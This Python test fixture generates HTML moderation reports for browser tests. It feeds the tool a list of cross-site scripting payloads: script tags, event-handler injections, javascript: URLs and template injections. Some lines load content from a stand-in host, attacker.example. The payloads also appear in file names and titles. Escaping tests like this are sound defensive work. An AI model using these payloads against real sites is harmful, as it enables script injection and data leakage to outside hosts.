# SPDX-License-Identifier: Apache-2.0
"""Makes the reports that the browser tests open, by running the tool as its users do."""

import json
import os
import pathlib
import random
import subprocess

ROOT = pathlib.Path(__file__).resolve().parents[2]
SHARED = ROOT.parent / "shared" / "data"
SAMPLES = ["neighbourhood.jsonl", "small-town.reddit.ndjson", "harbor-news.page.txt"]

# Flags everything, so that whatever stands in a comment stands in the report.
RULE_FOR_ALL = """---
id: everything
body (regex): ['[\\s\\S]']
action: remove
action_reason: Everything is flagged here.
---
"""

# What runs, in each place of markup and script, if it is not kept from it. The tests use many more where the shared
# collection is beside this checkout.
PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    "\"><svg onload=alert(4)>",
    "' onmouseover='alert(5)' x='",
    "javascript:alert(6)",
    "<a href=javascript:alert(7)>x</a>",
    "<iframe srcdoc='<script>parent.alert(8)</script>'>",
    "<!--<script>alert(9)//--></script>",
    "</title></style></textarea><script>alert(10)</script>",
    "]]><script>alert(11)</script>",
    "\\u003cscript>alert(12)\\u003c/script>",
    "\"}];alert(13);//",
    "<style>@import 'http://attacker.example/x.css';</style>",
    "<link rel=stylesheet href=http://attacker.example/x.css>",
    "<img src=http://attacker.example/pixel.gif>",
    "<meta http-equiv=refresh content='0;url=http://attacker.example/'>",
    "<base href=http://attacker.example/>",
    "<form action=http://attacker.example/><button autofocus onfocus=alert(14)>",
    "<details open ontoggle=alert(15)>",
    "{{constructor.constructor('alert(16)')()}}",
    "${alert(17)}",
    "\u202e<script>alert(18)</script>",
    "<scr\u0000ipt>alert(19)</scr\u0000ipt>",
    "&lt;script&gt;alert(20)&lt;/script&gt;",
    "#c-<img src=x onerror=alert(21)>",
    "__proto__",
    "constructor",
]


def payloads():
    """All payloads, and where they come from."""
    path = SHARED / "attacks" / "xss" / "payloads.jsonl"
    if not path.exists():
        return PAYLOADS, "our own; ../shared is not here"
    with open(path, encoding="utf-8") as lines:
        shared = [json.loads(line)["payload"] for line in lines]
    return PAYLOADS + [text for text in shared if text], "our own and those of ../shared"


class Runs:
    """Reports in a folder."""

    def __init__(self, moderate, folder):
        self.moderate = os.path.abspath(moderate)
        self.folder = pathlib.Path(folder)

    def path(self, name):
        return str(self.folder / name)

    def run(self, *arguments):
        """Runs the tool; its status has to be 0."""
        outcome = subprocess.run(
            [self.moderate, *map(str, arguments)],
            cwd=self.folder,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            check=False,
        )
        if outcome.returncode != 0:
            raise RuntimeError(f"moderate {arguments[0]}: {outcome.stderr.decode()[-2000:]}")
        return outcome.stdout

    def write(self, name, records):
        with open(self.folder / name, "w", encoding="utf-8") as file:
            for record in records:
                file.write(json.dumps(record) + "\n")
        return self.path(name)

    def sample(self):
        """The report of the quickstart."""
        out = self.path("sample.html")
        samples = [ROOT / "Examples" / "data" / name for name in SAMPLES]
        title = "Comments of a small town"
        self.run("scan", *samples, "--title", title, "--quiet", "--report", out)
        return out

    def hostile(self):
        """Payloads as words, names, ids, threads, titles and file names; in context, campaigns and examples."""
        texts, _ = payloads()
        rules = self.folder / "all.yaml"
        rules.write_text(RULE_FOR_ALL, encoding="utf-8")
        records = []
        for number, text in enumerate(texts):
            thread = texts[number - number % 4]
            record = {
                "id": text + f" {number}",
                "thread": thread,
                "author": text,
                "body": text if number % 7 else "\n".join(texts[number : number + 3]),
                "created_at": 1_700_000_000 + number * 60,
                "title": text,
                "url": text,
            }
            if number % 4:
                record["parent"] = texts[number - 1] + f" {number - 1}"
            records.append(record)
            if number < 40:
                for copy in range(4):
                    records.append(dict(record, id=f"copy {number} {copy} {text}", thread=text))
        dump = self.write("<img src=x onerror=alert('file')>.jsonl", records)
        out = self.path("hostile.html")
        self.run(
            "scan", dump, "--rules", rules, "--title", "</title><script>alert('title')</script>",
            "--max-flagged", 10_000, "--quiet", "--report", out, "--report", self.path("hostile.json"),
        )  # fmt: skip
        return out

    def hostile_rules(self):
        """Payloads as rules, kinds, views, entries, reasons and domains, as verdict lines may hold them."""
        texts, _ = payloads()
        lines = []
        for number, text in enumerate(texts):
            finding = {
                "rule": f"{text} {number}",
                "category": "spam",
                "kind": text,
                "score": 1.0,
                "view": text,
                "range": [0, 4],
                "text": text,
                "entry": text,
                "reason": text,
            }
            lines.append(
                {
                    "id": text,
                    "thread": text,
                    "author": text,
                    "action": "hold",
                    "scores": {"spam": 0.9},
                    "incomplete": None,
                    "findings": [finding],
                    "domains": [text],
                }
            )
        verdicts = self.write("rules.jsonl", lines)
        out = self.path("hostile-rules.html")
        self.run(
            "report", verdicts, "--compare", self.hostile_before(texts), "--max-flagged", 10_000,
            "--quiet", "--report", out,
        )  # fmt: skip
        return out

    def hostile_before(self, texts):
        """A run to compare with, in which half of the comments were judged otherwise."""
        lines = [
            {
                "id": text,
                "thread": text,
                "author": text,
                "action": "remove" if number % 3 else "allow",
                "scores": {},
                "incomplete": None,
                "findings": [],
            }
            for number, text in enumerate(texts)
        ]
        return self.write("<b onclick=alert('old')>old.jsonl", lines)

    def large(self, count=10_000):
        """A report of many flagged comments: words, names and rules of all lengths."""
        chance = random.Random(7)
        words = (
            "river council bridge idiot thanks map nonsense pathetic visit again tomorrow harbour "
            "street market lamp quay railing minutes drawings library bus stop night train"
        ).split()
        records = []
        for number in range(count):
            body = " ".join(chance.choices(words, k=chance.randint(4, 60)))
            record = {
                "id": f"c{number}",
                "thread": f"thread-{number // 40}",
                "author": f"author {number % 700}",
                "created_at": 1_700_000_000 + number * 300,
                "body": f"You are a pathetic idiot. {body}",
            }
            if number % 40 and chance.random() < 0.7:
                record["parent"] = f"c{number - 1 - chance.randrange(number % 40)}"
            records.append(record)
        dump = self.write("large.jsonl", records)
        rules = self.folder / "all.yaml"
        rules.write_text(RULE_FOR_ALL, encoding="utf-8")
        out = self.path("large.html")
        self.run(
            "scan", dump, "--rules", rules, "--max-flagged", count, "--quiet", "--report", out
        )
        return out
